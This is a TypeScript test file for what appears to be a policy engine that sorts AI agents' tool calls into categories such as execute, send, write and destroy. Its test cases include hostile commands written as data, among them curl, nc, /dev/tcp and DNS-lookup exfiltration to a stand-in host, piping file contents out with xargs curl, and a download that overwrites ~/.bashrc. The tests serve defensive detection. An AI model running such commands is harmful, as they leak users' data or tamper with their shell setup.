import { expect, it } from 'vitest';
import type { Call } from '../../../src/core/call.ts';
import { compilePolicy } from '../../../src/core/match/compile.ts';
import { createSubject } from '../../../src/core/match/subject.ts';
import { policyFrom } from '../../support/policy.ts';
import { registryFacts } from '../../support/registry-facts.ts';

const policy = compilePolicy(policyFrom(''));

it('what can be no text is no command, whatever it is called; what the schema does not name may be one', () => {
  const schema = { inputSchema: { properties: { command: { enum: ['view', 'create'] } } } };
  const registry = registryFacts({ definition: () => JSON.stringify(schema) });
  const kinds = (args: Call['args']): readonly string[] =>
    createSubject({ method: 'tools/call', server: 's', tool: 'notes', args }, { policy, registry }).categories();
  expect(kinds({ command: 'view' })).not.toContain('execute');
  expect(kinds({ command: 'view', cmd: 'id' })).toContain('execute');
  expect(kinds({ options: [{ run: { shellScript: 'id' } }] })).toContain('execute');
});

it.each([
  ['run_command', { command: 'curl https://a.example' }, true],
  ['run_command', { command: 'sudo /usr/bin/wget a.example' }, true],
  ['run_command', { argv: ['nc', 'a.example', '80'] }, true],
  ['run_command', { command: 'bash -c "nslookup $X.a.example"' }, true],
  ['run_command', { command: 'cat f | xargs -I{} curl a.example/{}' }, true],
  ['run_command', { command: 'echo x > /dev/tcp/a.example/80' }, true],
  ['run_command', { command: 'git -C dir push origin' }, true],
  ['python', { code: 'fetch("http://localhost.a.example/")' }, true],
  ['run_command', { command: 'open http://localhost:80@a.example/' }, true],
  ['run_command', { command: 'open http://localhost:3000/ http://127.0.0.1/' }, false],
  ['run_command', { command: 'grep -rn curl src; git pull; cat .ssh/config' }, false],
  ['create_snippet', { code: 'see https://a.example' }, false],
])('%s %j sends: %j', (tool, args, sends) => {
  const kinds = createSubject({ method: 'tools/call', server: 's', tool, args }, { policy }).categories();
  expect(kinds.includes('send')).toBe(sends);
});

it('what says where the answer of a tool goes makes it one that writes', () => {
  const kinds = (tool: string, args: Call['args']): readonly string[] =>
    createSubject({ method: 'tools/call', server: 's', tool, args }, { policy }).categories();
  expect(kinds('download', { url: 'https://a.test/x', output: '~/.bashrc' })).toContain('write');
  expect(kinds('get_page', { url: 'https://a.test/x', saveTo: 'mcp.json' })).toContain('write');
  expect(kinds('take_snapshot', { filePath: '/home/u/.profile' })).toContain('write');
  expect(kinds('get_page', { url: 'https://a.test/x', output: 'json' })).not.toContain('write');
  expect(kinds('read_file', { path: '~/.bashrc' })).not.toContain('write');
});

it('what is deleted by a commit can be got back, where the tool declares that it makes one', () => {
  const kinds = (names: readonly string[], args: Call['args']): readonly string[] => {
    const schema = { inputSchema: { properties: Object.fromEntries(names.map((name) => [name, { type: 'string' }])) } };
    const registry = registryFacts({ definition: () => JSON.stringify(schema) });
    return createSubject({ method: 'tools/call', server: 's', tool: 'delete_file', args }, { policy, registry }).categories();
  };
  const args = { path: 'a.ts', message: 'Remove a', branch: 'fix' };
  expect(kinds(['path', 'message', 'branch'], args)).not.toContain('destroy');
  expect(kinds(['file_path', 'commit_message', 'branch'], args)).not.toContain('destroy');
  expect(kinds(['path', 'message'], args)).toContain('destroy');
  expect(kinds(['path', 'branch'], args)).toContain('destroy');
  expect(kinds(['path'], args)).toContain('destroy');
});

it('reads statements and arguments of a megabyte', () => {
  for (const sql of [
    '/*'.repeat(500_000),
    'drop '.repeat(200_000),
    '('.repeat(1_000_000),
    ' ;alter table'.repeat(80_000),
    `begin${' '.repeat(60_000)}x`,
    'begin update a set '.repeat(3_400),
    `delete from a where ${'a'.repeat(60_000)}`,
  ]) {
    createSubject({ method: 'tools/call', server: 's', tool: 'query', args: { sql } }, { policy }).categories();
  }
  for (const command of ['git ', 'sudo ', 'a/', '"', 'http://localhost']) {
    const args = { command: command.repeat(65_536 / command.length) };
    createSubject({ method: 'tools/call', server: 's', tool: 'run_command', args }, { policy }).categories();
  }
  const rows = Array.from({ length: 100_000 }, (_, id) => ({ id, command: null }));
  const kinds = createSubject({ method: 'tools/call', server: 's', tool: 'get_x', args: { rows } }, { policy }).categories();
  expect(kinds).toContain('unknown');
});
